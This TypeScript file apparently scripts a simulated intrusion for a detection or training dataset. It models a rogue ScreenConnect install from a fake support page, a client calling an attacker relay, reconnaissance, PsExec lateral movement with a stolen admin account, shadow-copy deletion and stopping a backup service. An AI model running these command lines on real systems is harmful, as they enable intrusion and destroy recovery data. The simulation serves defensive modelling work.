/** Intrusion 2, “the rogue relay”. Who, what and when: see ../README.md. */
import type { Ticks } from '@/lib/shared/time';
import { account } from '../company/people';
import * as desk from '../programs/desk';
import { program } from '../programs/program';
import * as rmm from '../programs/rmm';
import * as windows from '../programs/windows';
import type { Process } from '../story/process';
import type { Story } from '../story/story';

const relay = { host: rmm.rogueHost, ip: '203.0.113.140', port: 443 };
const clientCommand = `"{path}" "?e=Access&y=Guest&h=${rmm.rogueHost}&p=443&s=9d0b3c55-71aa-4f0e-8b1d-2c6f4f0d7e21&k=BgIAAACkAABSU0Ex"`;
const psexec = program(
  'C:\\Windows\\PSEXESVC.exe',
  'Sysinternals - www.sysinternals.com',
  'Sysinternals PsExec',
  '2.43',
  'PsExec Service',
);

export function rogueRelay(story: Story): void {
  const desktop = story.on('ws-sal-031');
  const victim = desktop.device.user;
  const stolen = account('adm-karin');

  const explorer = desktop.signIn(victim, story.at(9, '08:12'));
  const browser = explorer.start(desk.edge, {
    after: '2h',
    command: '"{path}" --single-argument https://support-ticket.example/?id=4471',
  });
  browser.connect({ host: 'support-ticket.example', ip: '203.0.113.33', after: '1s' });
  const setup = browser.start(rmm.rogueSetup, { after: '6m' });
  setup.start(windows.msiexec, {
    after: '4s',
    command: `"{path}" /i "C:\\Users\\${victim.name}\\AppData\\Local\\Temp\\ScreenConnect\\d81b6e02f45a9c13\\setup.msi" /qn`,
  });
  const service = desktop.services(story.at(9, '10:21')).start(rmm.rogueService, { command: clientCommand });
  service.connect(relay).connect({ ...relay, after: '5h' });
  const session = service.start(rmm.rogueClient, { after: '9m', command: '"{path}" "RunRole" "7c9f" "User"', as: victim });
  const shell = session.start(windows.cmd, {
    after: '3m',
    command: `"cmd.exe" /c "C:\\Windows\\TEMP\\ScreenConnect\\24.1.7.8892\\5c1frun.cmd"`,
  });
  shell.start(windows.systeminfo, { after: '2s', command: 'systeminfo' });
  shell.start(windows.net, { after: '20s', command: 'net  view /all /domain' });

  // Six days later, with an administrator's password, on to the servers.
  lateral(story, 'srv-fs-002', story.at(3, '19:04'), stolen);
  lateral(story, 'srv-app-004', story.at(3, '19:26'), stolen);

  // Over RDP from the desktop, the backups are to go.
  const server = story.on('srv-fs-002');
  server.rdpFrom = desktop.device;
  const admin = server.signIn(stolen, story.at(2, '03:15'));
  const console = admin.start(windows.powershell, { after: '3m', elevated: true });
  console.start(windows.vssadmin, { after: '1m', command: '"{path}" delete shadows /all /quiet', elevated: true });
  console.start(windows.net, { after: '2m', command: '"{path}" stop VaultlineAgent /y', elevated: true });
  server.rdpFrom = undefined;
}

/** PsExec brings the rogue client onto a server. */
function lateral(story: Story, host: string, at: Ticks, stolen: ReturnType<typeof account>): Process {
  const server = story.on(host);
  const remote = server.services(at).start(psexec, { command: '{path}' });
  const shell = remote.start(windows.cmd, {
    after: '2s',
    as: stolen,
    elevated: true,
    command: '"cmd.exe" /c msiexec /i \\\\10.20.101.50\\c$\\Windows\\Temp\\u.msi /qn',
  });
  shell.start(windows.msiexec, {
    after: '1s',
    command: '{path} /i \\\\10.20.101.50\\c$\\Windows\\Temp\\u.msi /qn',
    elevated: true,
  });
  const service = server.services(at + 900_000_000n).start(rmm.rogueService, { command: clientCommand });
  return service
    .connect(relay)
    .connect({ ...relay, after: '7h' })
    .connect({ ...relay, after: '31h' });
}
